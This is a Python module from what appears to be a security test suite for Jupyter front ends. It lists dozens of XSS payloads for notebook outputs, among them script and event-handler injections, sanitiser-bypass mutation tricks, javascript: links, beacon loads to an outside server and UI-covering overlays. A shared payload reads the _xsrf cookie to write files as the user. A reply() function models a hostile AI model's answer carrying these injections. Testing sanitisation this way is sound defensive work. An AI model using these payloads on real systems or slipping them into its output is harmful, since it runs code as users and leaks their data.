"""What a hostile guest shows, and how one sees that it worked.

Every attack is Python for a cell. It signals success in one of these ways, which `lab.Proof` collects:

- `PAYLOAD` runs in the page: it notes the attack's name in `window.pwned` and, as the user, writes a file
  `pwned-NAME.txt` through the server's contents API;
- something is loaded from the beacon, a server outside of the sandbox that keeps the names it was asked for;
- a probe: an expression evaluated in the page after the cells ran.

`click`: the attack needs its link clicked. `control`: whether the attack works in JupyterLab with ipykernel, where
nothing is sanitised; one that does not is kept because other front ends may fall for it.
"""

from __future__ import annotations

from dataclasses import dataclass

PAYLOAD = (
    "(function(n){"
    "(window.pwned=window.pwned||[]).push(n);"
    "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
    "fetch('/api/contents/pwned-'+n+'.txt',{method:'PUT',credentials:'same-origin',"
    "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:n})})"
    "})(`NAME`)"
)

# A shorter one without quotes and spaces, for places where those end something.
NOTE = "void((window.pwned=window.pwned||[]).push(`NAME`))"


@dataclass(frozen=True)
class Attack:
    name: str
    # HTML, Markdown or whatever `show` takes; PAYLOAD, NOTE, BEACON and NAME are filled in.
    text: str
    # A Python expression or statement with TEXT in it.
    show: str = "display({'text/html': TEXT}, raw=True)"
    click: bool = False
    control: bool = True
    # An expression for the page, true when the attack worked.
    probe: str | None = None

    def code(self, beacon: str) -> str:
        payload = PAYLOAD.replace("NAME", self.name)
        text = self.text.replace("PAYLOAD", payload).replace("NOTE", NOTE)
        text = text.replace("BEACON", f"{beacon}/{self.name}").replace("NAME", self.name)
        return f"from IPython.display import *\n{self.show.replace('TEXT', repr(text))}"


MARKDOWN = "display({'text/markdown': TEXT}, raw=True)"
SVG = "display({'image/svg+xml': TEXT}, raw=True)"
COVER = "position:fixed;left:0;top:0;width:9999px;height:99999px;z-index:99999;background:rgba(0,0,0,.01)"
# Something that lies over what is above or below its own output. (JupyterLab itself keeps the inside of a
# notebook from covering what is outside of it.)
COVERED = """(() => {
    const cover = document.querySelector('[title=cover-NAME]');
    const own = cover?.closest('.jp-OutputArea-output');
    if (!own) return false;
    own.scrollIntoView({block: 'center'});
    const {left, top, bottom} = own.getBoundingClientRect();
    return [top - 60, bottom + 60].some(y => document.elementsFromPoint(left + 30, y).includes(cover));
})()"""

ATTACKS = [
    # Script in HTML.
    Attack("html-script", "<script>PAYLOAD</script>"),
    Attack("html-script-spliced", "<scr<style></style>ipt>PAYLOAD</scr<style></style>ipt>", control=False),
    Attack("html-img-onerror", "<img src=x onerror=\"PAYLOAD\">"),
    Attack("html-svg-onload", "<svg onload=\"PAYLOAD\"></svg>", control=False),
    Attack("html-svg-animate", "<svg><animate onbegin=\"PAYLOAD\" attributeName=x dur=1s></svg>"),
    Attack("html-details-ontoggle", "<details open ontoggle=\"PAYLOAD\">x</details>"),
    Attack("html-svg-style-mutation", "<svg></p><style><a title=\"</style><img src=x onerror=NOTE>\">", control=False),
    Attack("html-math-mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=NOTE>\">", control=False),
    Attack("html-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.eval(`PAYLOAD2`)</script>\"></iframe>".replace("PAYLOAD2", PAYLOAD.replace("`", "'"))),
    Attack("html-iframe-javascript", "<iframe src=\"javascript:parent.eval(`PAYLOAD2`)\"></iframe>".replace("PAYLOAD2", PAYLOAD.replace("`", "'"))),
    Attack("html-link", "<a href=\"javascript:PAYLOAD\">NAME</a>", click=True, control=False),
    Attack("html-link-hidden", "<a href=\" &#1;j&#97;va&Tab;script:PAYLOAD\">NAME</a>", click=True, control=False),
    Attack("html-command-link", "<a href='#' data-commandlinker-command='docmanager:new-untitled' data-commandlinker-args='{\"type\":\"file\",\"path\":\"\",\"ext\":\"pwned-NAME\"}'>NAME</a>", click=True),
    Attack("html-result", "<script>PAYLOAD</script>", "class R:\n def _repr_html_(self): return TEXT\nR()"),
    Attack("html-update", "<script>PAYLOAD</script>", "h = display(HTML('first'), display_id=True)\nh.update(HTML(TEXT))"),
    Attack("html-lines", "<script>PAYLOAD</script>", "display({'text/html': TEXT.splitlines(True)}, raw=True)"),
    Attack("javascript", "PAYLOAD", "display({'application/javascript': TEXT, 'text/plain': 'x'}, raw=True)"),
    # HTML that loads, covers or pretends.
    Attack("load-img", "<img src=\"BEACON\">"),
    Attack("load-srcset", "<img srcset=\"BEACON 1x\">"),
    Attack("load-style", "<div style=\"background:url(BEACON)\">x</div>"),
    Attack("load-sheet", "<style>body{--x:1} .load-sheet{background:url('BEACON')}</style><p class='load-sheet'>x</p>"),
    Attack("load-import", "<style>@import 'BEACON';</style>"),
    Attack("load-link", "<link rel=stylesheet href=\"BEACON\">"),
    Attack("load-video", "<video src=\"BEACON\" autoplay></video>"),
    Attack("load-object", "<object data=\"BEACON\"></object>"),
    Attack("load-iframe", "<iframe src=\"BEACON\"></iframe>"),
    Attack("load-svg-image", "<svg width=9 height=9><image href=\"BEACON\" width=9 height=9 /></svg>"),
    Attack("load-svg-use", "<svg><use href=\"BEACON#x\"/></svg>", control=False),
    Attack("load-form", "<iframe name=NAME></iframe><form action=\"BEACON\" target=NAME><input type=submit title='NAME'></form>", click=True),
    Attack("load-frame-script", "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('BEACON',{mode:'no-cors'})</script>\"></iframe>"),
    Attack("load-frame-img", "<iframe sandbox=allow-scripts srcdoc=\"<script>new Image().src='BEACON'</script>\"></iframe>"),
    Attack("load-frame-navigation", "<iframe sandbox=allow-scripts srcdoc=\"<script>location='BEACON'</script>\"></iframe>"),
    Attack("load-frame-refresh", "<iframe sandbox=allow-scripts srcdoc=\"<meta http-equiv=refresh content='0;url=BEACON'>\"></iframe>"),
    Attack("load-frame-form", "<iframe sandbox='allow-scripts allow-forms' srcdoc=\"<form id=f action='BEACON'></form><script>f.submit()</script>\"></iframe>"),
    Attack("load-frame-inner", "<iframe sandbox=allow-scripts srcdoc=\"<iframe src='BEACON'></iframe>\"></iframe>"),
    Attack("cover", f"<div title=cover-NAME style=\"{COVER}\">x</div>", probe=COVERED),
    Attack("cover-absolute", "<div title=cover-NAME style=\"position:absolute;left:0;top:-500px;width:999px;height:2000px;z-index:9999\">x</div>", control=False, probe=COVERED),
    Attack("cover-margin", "<div title=cover-NAME style=\"position:relative;margin-top:-500px;height:2000px;z-index:9999\">x</div>", control=False, probe=COVERED),
    Attack("cover-sheet", f"<style>.cover-sheet{{{COVER}}}</style><div title=cover-NAME class=cover-sheet>x</div>", probe=COVERED),
    Attack("cover-escapes", "<style>body > * .cover-escapes{p\\osition:fix\\65 d;left:0;top:0;width:9999px;height:99999px;z-index:99999}</style><div title=cover-NAME class=cover-escapes>x</div>", probe=COVERED),
    Attack("cover-dialog", "<div class=jp-Dialog title=NAME>x</div>", probe="!!document.querySelector('.jp-Dialog[title=NAME]')"),
    Attack("restyle", "<style>body{--pwned:yes}</style>", probe="getComputedStyle(document.body).getPropertyValue('--pwned') == 'yes'"),
    Attack("clobber", "<div id=pwned-id>x</div>", probe="!!document.getElementById('pwned-id')"),
    # Markdown.
    Attack("markdown-img", "<img src=x onerror=\"PAYLOAD\">", MARKDOWN),
    Attack("markdown-script", "<script>PAYLOAD</script>", MARKDOWN),
    Attack("markdown-object", "<img src=x onerror=\"PAYLOAD\">", "Markdown(TEXT)"),
    Attack("markdown-link", "[NAME](javascript:NOTE)", MARKDOWN, click=True),
    Attack("markdown-reference", "[NAME][r]\n\n[r]: <javascript:PAYLOAD>", MARKDOWN, click=True),
    Attack("markdown-load", "![x](BEACON)", MARKDOWN),
    Attack("markdown-load-reference", "![x]\n\n[x]: BEACON", MARKDOWN),
    Attack("markdown-not-code", "`a\n$ b` $ `<img src=x onerror=\"PAYLOAD\">` $ `", MARKDOWN, control=False),
    Attack("markdown-formula-code", "$ ` $ `<img src=x onerror=\"PAYLOAD\">` ` ", MARKDOWN, control=False),
    Attack("markdown-fences", "```x\n~~~\n```\n~~~\n<img src=x onerror=\"PAYLOAD\">\n~~~\n", MARKDOWN, control=False),
    Attack("markdown-address-tag", "<div>\n<https://x/onpointerenter=NOTE//>\n<https://x/autofocus/tabindex=1/onfocus=NOTE//>\n</div>", MARKDOWN, control=False),
    Attack("markdown-formula", "$\\href{javascript:NOTE}{NAME}$", MARKDOWN, click=True, control=False),
    Attack("latex", "$\\href{javascript:NOTE}{NAME}$", "display({'text/latex': TEXT}, raw=True)", click=True, control=False),
    # Pictures.
    Attack("svg-unconfined", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"PAYLOAD\"><foreignObject><img src='x' onerror=\"PAYLOAD\"/></foreignObject></svg>", "display({'image/svg+xml': TEXT}, raw=True, metadata={'image/svg+xml': {'unconfined': True}})", control=False),
    Attack("svg-script", "<svg xmlns='http://www.w3.org/2000/svg'><script>PAYLOAD</script></svg>", SVG, control=False),
    Attack("png-markup", "AAAA\"><img src=x onerror=NOTE>", "display({'image/png': TEXT}, raw=True)", control=False),
    # Text.
    Attack("text-markup", "<img src=x onerror=NOTE>", "print(TEXT)", control=False),
    # Must be the last: the cells after it do not run.
    Attack("error-markup", "<img src=x onerror=NOTE>", "raise ValueError(TEXT)", control=False),
]

REPLY_ATTACKS = [
    attack for attack in ATTACKS if attack.show in (MARKDOWN, "Markdown(TEXT)") or attack.name.startswith(("html-", "load-"))
]


def reply(beacon: str) -> str:
    """What a hostile model says: every attack that is text, between blank lines."""
    texts = []
    for attack in REPLY_ATTACKS:
        name = f"reply-{attack.name}"
        text = attack.text.replace("PAYLOAD", PAYLOAD).replace("NOTE", NOTE)
        texts.append(text.replace("BEACON", f"{beacon}/{name}").replace("NAME", name))
    return "\n\n".join(texts)
